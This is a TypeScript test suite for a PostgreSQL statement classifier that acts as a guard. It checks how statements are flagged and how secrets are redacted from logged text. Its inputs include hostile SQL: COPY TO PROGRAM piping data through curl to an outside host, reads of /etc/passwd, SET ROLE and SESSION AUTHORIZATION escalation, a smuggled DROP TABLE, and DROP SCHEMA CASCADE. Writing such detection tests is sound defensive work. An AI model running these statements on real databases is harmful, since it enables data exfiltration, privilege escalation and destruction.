// The classification table: real parse trees from libpg-query (PostgreSQL 18's parser), never
// hand-made ones. Breaking the tree reading in sql-tree.ts (say, dropping CTE scoping, or the
// WHERE check) fails the rows that depend on it.
import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import type { SqlStatement } from '@chaperone/shared';
import { executeOf, SqlClassifier } from './sql-classifier.ts';

let classifier: SqlClassifier;
before(async () => {
  classifier = await SqlClassifier.create(64);
});

type Expect = Partial<Omit<SqlStatement, 'kinds' | 'problem'>> & {
  kinds?: string[];
  notKinds?: string[];
  problem?: RegExp | string;
};

/** [case, SQL, one expectation per statement (only the members given are checked)] */
const TABLE: [string, string, Expect[]][] = [
  [
    'plain select',
    'SELECT id, email FROM orders WHERE id = 1',
    [{ kind: 'SelectStmt', kinds: ['select'], tables: ['orders'], columns: ['email', 'id'] }],
  ],
  [
    'schema-qualified, joined, subquery',
    'SELECT o.id FROM app.orders o JOIN customers c ON c.id = o.cid WHERE o.id IN (SELECT order_id FROM audit.refunds)',
    [{ tables: ['app.orders', 'audit.refunds', 'customers'], kinds: ['select'] }],
  ],
  [
    'the reference bypass: every statement of a multi-statement string',
    'SELECT 1; COMMIT; DROP SCHEMA public CASCADE',
    [
      { kind: 'SelectStmt', kinds: ['select'] },
      { kind: 'TransactionStmt', kinds: ['transaction'] },
      { kind: 'DropStmt', kinds: ['ddl', 'drop', 'write'], schemas: ['public'], tables: [] },
    ],
  ],
  [
    'drop several tables',
    'DROP TABLE a, s.b CASCADE',
    [{ kind: 'DropStmt', tables: ['a', 's.b'], writes: ['a', 's.b'] }],
  ],
  [
    'a comment hides nothing',
    'SELECT 1 /* harmless */; DROP /* really */ TABLE orders -- bye',
    [{ kind: 'SelectStmt' }, { kind: 'DropStmt', tables: ['orders'] }],
  ],
  [
    'a statement inside a string is a string',
    "SELECT 'x; DROP TABLE orders; --'",
    [{ kind: 'SelectStmt', tables: [], kinds: ['select'] }],
  ],
  ['dollar quoting too', 'SELECT $q$; DROP TABLE orders; $q$', [{ kind: 'SelectStmt', tables: [] }]],
  // With standard_conforming_strings on (which the sidecar enforces), a backslash does not escape a quote.
  [
    'backslash before a quote',
    "SELECT 'a\\'; DROP TABLE t; --'",
    [{ kind: 'SelectStmt' }, { kind: 'DropStmt', tables: ['t'] }],
  ],
  [
    'quoted identifiers keep case and dots',
    'DELETE FROM "Orders" WHERE 1=1; TRUNCATE "a.b"',
    [
      { tables: ['Orders'], kinds: ['delete', 'write'], notKinds: ['delete-without-where'] },
      { tables: ['"a.b"'], kinds: ['ddl', 'truncate', 'write'] },
    ],
  ],
  [
    'delete without where',
    'DELETE FROM orders',
    [{ kinds: ['delete', 'delete-without-where', 'write'], unqualified: true, writes: ['orders'] }],
  ],
  [
    'update without where',
    'UPDATE orders SET total = 0',
    [{ kinds: ['update', 'update-without-where', 'write'], unqualified: true, columns: ['total'] }],
  ],
  [
    'update with where current of',
    'UPDATE orders SET total = 0 WHERE CURRENT OF c',
    [{ notKinds: ['update-without-where'] }],
  ],
  [
    'a CTE that deletes, read back by a SELECT',
    'WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone',
    [
      {
        kind: 'SelectStmt',
        kinds: ['delete', 'delete-without-where', 'select', 'write'],
        tables: ['orders'],
        writes: ['orders'],
      },
    ],
  ],
  [
    'a CTE name is not a table, but a later CTE cannot see an earlier one as itself',
    'WITH a AS (SELECT * FROM secrets), secrets AS (SELECT 1) SELECT * FROM a, secrets',
    [{ tables: ['secrets'] }],
  ],
  ['a CTE shadowing a table name', 'WITH orders AS (SELECT 1 AS id) SELECT id FROM orders', [{ tables: [] }]],
  [
    'recursive CTE sees itself',
    'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT n FROM r',
    [{ tables: [] }],
  ],
  [
    'insert … select reads and writes: a rule on reading sees it',
    'INSERT INTO archive (id) SELECT id FROM orders',
    [
      {
        kinds: ['insert', 'select', 'write'],
        tables: ['archive', 'orders'],
        writes: ['archive'],
        columns: ['id'],
      },
    ],
  ],
  [
    'insert without a column list writes every column; VALUES reads nothing',
    'INSERT INTO t VALUES (1)',
    [{ columns: ['*'], kinds: ['insert', 'write'] }],
  ],
  [
    'a subquery that reads counts as select',
    'UPDATE t SET n = (SELECT max(n) FROM secrets) WHERE id = 1',
    [{ kinds: ['select', 'update', 'write'], tables: ['secrets', 't'] }],
  ],
  [
    'a syntax error later in the string: its position, never its text',
    "SELECT 1; SELECT 'x' 'hunter2'",
    [{ kind: 'unknown', problem: /^the parser refused it: syntax error at character \d+$/ }],
  ],
  [
    'upsert is an update too',
    'INSERT INTO t (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET n = 2',
    [{ kinds: ['insert', 'update', 'write'] }],
  ],
  [
    'merge',
    'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (s.id)',
    [{ kinds: ['delete', 'insert', 'merge', 'write'], tables: ['s', 't'], writes: ['t'] }],
  ],
  [
    'select into creates a table',
    'SELECT * INTO copy_of_users FROM users',
    [{ kinds: ['create', 'ddl', 'select', 'write'], writes: ['copy_of_users'] }],
  ],
  [
    'whole-row reference reaches every column',
    'SELECT row_to_json(u) FROM users u',
    [{ columns: ['*'], functions: ['row_to_json'] }],
  ],
  ['t.* too', 'SELECT u.* FROM users u', [{ columns: ['*'] }]],
  [
    'functions',
    "SELECT pg_read_file('/etc/passwd'), pg_catalog.set_config('role', 'admin', false), lo_import('/x')",
    [{ functions: ['lo_import', 'pg_catalog.set_config', 'pg_read_file'] }],
  ],
  [
    'functions in FROM and WHERE',
    "SELECT * FROM dblink('host=x', 'select 1') AS t(a int) WHERE pg_terminate_backend(42)",
    [{ functions: ['dblink', 'pg_terminate_backend'] }],
  ],
  [
    'COPY TO PROGRAM',
    "COPY orders TO PROGRAM 'curl -d @- http://x'",
    [{ kinds: ['copy', 'copy-program', 'copy-to', 'copy-to-program'], tables: ['orders'], columns: ['*'] }],
  ],
  [
    'COPY FROM PROGRAM',
    "COPY t FROM PROGRAM 'id'",
    [{ kinds: ['copy', 'copy-from', 'copy-from-program', 'copy-program', 'write'], writes: ['t'] }],
  ],
  [
    'COPY TO STDOUT of some columns',
    'COPY orders (id, total) TO STDOUT',
    [{ kinds: ['copy', 'copy-to'], columns: ['id', 'total'] }],
  ],
  [
    'COPY FROM a server file',
    "COPY t FROM '/etc/passwd'",
    [{ kinds: ['copy', 'copy-file', 'copy-from', 'write'] }],
  ],
  [
    'COPY of a query',
    'COPY (SELECT ssn FROM users) TO STDOUT',
    [{ tables: ['users'], columns: ['ssn'], kinds: ['copy', 'copy-to', 'select'] }],
  ],
  ['SET ROLE', 'SET ROLE admin', [{ kinds: ['set', 'set-role'] }]],
  ['SET LOCAL ROLE', 'SET LOCAL ROLE admin', [{ kinds: ['set', 'set-role'] }]],
  [
    'SET SESSION AUTHORIZATION',
    'SET SESSION AUTHORIZATION postgres',
    [{ kinds: ['set', 'set-session-authorization'] }],
  ],
  [
    'ALTER SYSTEM',
    "ALTER SYSTEM SET archive_command = 'x'",
    [{ kind: 'AlterSystemStmt', kinds: ['alter', 'alter-system', 'ddl', 'write'] }],
  ],
  [
    'GRANT on every table of a schema',
    'GRANT SELECT ON ALL TABLES IN SCHEMA public TO bob',
    [{ kinds: ['grant', 'write'], schemas: ['public'] }],
  ],
  ['REVOKE', 'REVOKE ALL ON orders FROM bob', [{ kinds: ['grant', 'revoke', 'write'], tables: ['orders'] }]],
  [
    'CREATE FUNCTION … SECURITY DEFINER, and its SQL body counts',
    "CREATE FUNCTION f() RETURNS void SECURITY DEFINER LANGUAGE sql AS 'DELETE FROM orders'",
    [
      {
        kinds: [
          'create',
          'create-function',
          'create-function-security-definer',
          'ddl',
          'delete',
          'delete-without-where',
          'write',
        ],
        tables: ['orders'],
      },
    ],
  ],
  [
    'a function in a language the guard cannot read',
    "CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'return 1'",
    [{ kinds: ['create', 'create-function', 'ddl', 'dynamic-sql', 'write'] }],
  ],
  [
    'a DO block: its statements count',
    'DO $$ BEGIN DROP TABLE orders; END $$',
    [
      {
        kind: 'DoStmt',
        kinds: ['ddl', 'do', 'drop', 'write'],
        tables: ['orders'],
        notKinds: ['dynamic-sql'],
      },
    ],
  ],
  [
    'a DO block with EXECUTE is dynamic SQL',
    "DO $$ BEGIN EXECUTE 'DROP ' || 'TABLE orders'; END $$",
    [{ kind: 'DoStmt', kinds: ['do', 'dynamic-sql'] }],
  ],
  [
    'a PL/pgSQL function with EXECUTE',
    "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $f$ BEGIN EXECUTE format('TRUNCATE %I', 'x'); END $f$",
    [{ kinds: ['create', 'create-function', 'ddl', 'dynamic-sql', 'write'], functions: ['format'] }],
  ],
  [
    'a DO block in another language',
    "DO LANGUAGE plperlu $$ system('id') $$",
    [{ kinds: ['do', 'dynamic-sql'] }],
  ],
  [
    'a DO block the PL/pgSQL parser refuses',
    'DO $$ BEGIN nonsense here; END $$',
    [{ problem: /DO block could not be read/ }],
  ],
  [
    'PREPARE counts as what it prepares',
    'PREPARE p (int) AS DELETE FROM t WHERE id = $1',
    [{ kinds: ['delete', 'prepare', 'write'], tables: ['t'] }],
  ],
  [
    'EXPLAIN ANALYZE runs what it explains',
    'EXPLAIN ANALYZE DELETE FROM t',
    [{ kinds: ['delete', 'delete-without-where', 'explain', 'write'] }],
  ],
  [
    'CREATE TABLE AS',
    'CREATE TABLE x AS SELECT * FROM t',
    [{ kinds: ['create', 'ddl', 'select', 'write'], writes: ['x'], tables: ['t', 'x'] }],
  ],
  ['SET client_encoding is refused', "SET NAMES 'SJIS'", [{ problem: /client_encoding can only be UTF8/ }]],
  [
    'SET standard_conforming_strings off is refused',
    'SET standard_conforming_strings = off',
    [{ problem: /standard_conforming_strings stays on/ }],
  ],
  [
    'a syntax error',
    'SELEC * FROM orders',
    [{ kind: 'unknown', problem: /^the parser refused it: syntax error$/ }],
  ],
  ['nothing but a comment', '-- nothing', []],
];

function check(sql: string, want: Expect[]): void {
  const got = classifier.classify(sql).statements.map((s) => s.statement);
  assert.equal(got.length, want.length, `statements of ${sql}: ${JSON.stringify(got)}`);
  want.forEach((w, i) => {
    const g = got[i] as SqlStatement;
    const where = `${sql} [${i}]: ${JSON.stringify(g)}`;
    for (const [k, v] of Object.entries(w)) {
      if (k === 'notKinds') {
        for (const n of v as string[]) assert.ok(!g.kinds?.includes(n), `${where}: not ${n}`);
      } else if (k === 'problem') {
        assert.match(g.problem ?? '', v as RegExp, where);
      } else if (
        k === 'kinds' ||
        k === 'tables' ||
        k === 'columns' ||
        k === 'functions' ||
        k === 'writes' ||
        k === 'schemas'
      ) {
        assert.deepEqual(
          [...((g as unknown as Record<string, string[]>)[k] ?? [])].sort(),
          [...(v as string[])].sort(),
          `${where}: ${k}`,
        );
      } else {
        assert.deepEqual((g as unknown as Record<string, unknown>)[k], v, `${where}: ${k}`);
      }
    }
    if (!('problem' in w)) assert.equal(g.problem, undefined, `${where}: no problem`);
  });
}

describe('SQL classification (real parse trees)', () => {
  for (const [name, sql, want] of TABLE) it(name, () => check(sql, want));
});

describe('normalised text and fingerprint', () => {
  it('keeps no literal and no comment, whatever normalize left', () => {
    const cases = [
      "SELECT * FROM users WHERE password = 'hunter2' AND pin = 1234",
      "COPY t TO PROGRAM 'curl -d hunter2 http://x'",
      "PREPARE p AS SELECT 'hunter2'",
      "COMMENT ON TABLE t IS 'hunter2'",
      "ALTER ROLE bob PASSWORD 'hunter2'",
      "DO $$ BEGIN PERFORM 'hunter2'; END $$",
      'SELECT 1 -- hunter2\n',
      'SELECT /* hunter2 */ 2',
      "SELECT E'hunter2', B'1010', X'ff', U&'hunter2', $tag$hunter2$tag$, 12.5e3",
      "CREATE TABLE t (a text DEFAULT 'hunter2')",
      "SELEC 'hunter2' FROM", // unparseable: still redacted, from the tokens
    ];
    for (const sql of cases) {
      const [s] = classifier.classify(sql).statements;
      assert.ok(s, sql);
      assert.doesNotMatch(s.text, /hunter2|1234|1010|12\.5/, `${sql} → ${s.text}`);
      assert.doesNotMatch(s.statement.problem ?? '', /hunter2/);
    }
    const [s] = classifier.classify("SELECT * FROM users WHERE password = 'x' AND pin = 1").statements;
    assert.equal(s?.text, 'SELECT * FROM users WHERE password = $1 AND pin = $2');
  });

  it('gives one fingerprint to statements that differ only in literals, per statement of a string', () => {
    const a = classifier.classify("SELECT * FROM t WHERE id = 1; DELETE FROM t WHERE id = 'x'").statements;
    const b = classifier.classify('SELECT * FROM t WHERE id = 99').statements;
    assert.equal(a.length, 2);
    assert.match(a[0]?.fingerprint ?? '', /^[0-9a-f]{16}$/);
    assert.equal(a[0]?.fingerprint, b[0]?.fingerprint);
    assert.notEqual(a[0]?.fingerprint, a[1]?.fingerprint);
    assert.equal(a[1]?.text, 'DELETE FROM t WHERE id = $1');
  });

  it('slices statements by bytes, not characters', () => {
    const s = classifier.classify("SELECT 'é'; DROP TABLE t").statements;
    assert.deepEqual(
      s.map((x) => x.text),
      ['SELECT $1', 'DROP TABLE t'],
    );
  });
});

describe('PREPARE and EXECUTE', () => {
  it('EXECUTE is judged by what was prepared', () => {
    const [prep] = classifier.classify('PREPARE p AS DELETE FROM orders').statements;
    assert.equal(prep?.prepares?.name, 'p');
    assert.deepEqual(prep?.prepares?.statement.kinds, ['delete', 'delete-without-where', 'write']);
    const [exec] = classifier.classify('EXECUTE p').statements;
    assert.equal(exec?.executes, 'p');
    const judged = executeOf(exec?.statement as SqlStatement, prep?.prepares?.statement, 'p');
    assert.equal(judged.kind, 'ExecuteStmt');
    assert.deepEqual(judged.kinds, ['delete', 'delete-without-where', 'execute', 'write']);
    assert.deepEqual(judged.tables, ['orders']);
    assert.match(
      executeOf(exec?.statement as SqlStatement, undefined, 'p').problem ?? '',
      /no statement named "p"/,
    );
    assert.equal(classifier.classify('DEALLOCATE ALL').statements[0]?.deallocates, '*');
  });
});

describe('the parse cache', () => {
  it('answers a repeated text from the cache', () => {
    const before = { ...classifier.stats };
    const text = `SELECT ${Math.random()}`;
    const first = classifier.classify(text);
    assert.equal(classifier.classify(text), first);
    assert.equal(classifier.stats.misses, before.misses + 1);
    assert.equal(classifier.stats.hits, before.hits + 1);
  });
});
